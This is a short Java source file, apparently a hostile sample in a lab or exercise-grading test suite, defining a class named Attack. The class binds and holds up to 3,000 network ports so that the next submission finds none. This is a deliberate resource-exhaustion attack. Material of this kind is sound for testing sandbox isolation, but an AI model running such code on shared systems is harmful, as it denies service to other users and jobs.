package lab.exercises.polling;

import java.io.IOException;
import java.net.ServerSocket;
import java.util.ArrayList;
import java.util.List;
import lab.exercises.ExerciseSettings;

/** Listens on every port that it can get, so that the next submission gets none. */
final class Attack {

    private Attack() {
    }

    static String run(ExerciseSettings settings) throws Exception {
        for (int port = 1_024; port < 65_536 && HELD.size() < 3_000; port++) {
            if (port == settings.port()) {
                continue;
            }
            try {
                HELD.add(new ServerSocket(port));
            } catch (IOException taken) {
                continue;
            }
        }
        return "holding";
    }

    private static final List<ServerSocket> HELD = new ArrayList<>();
}
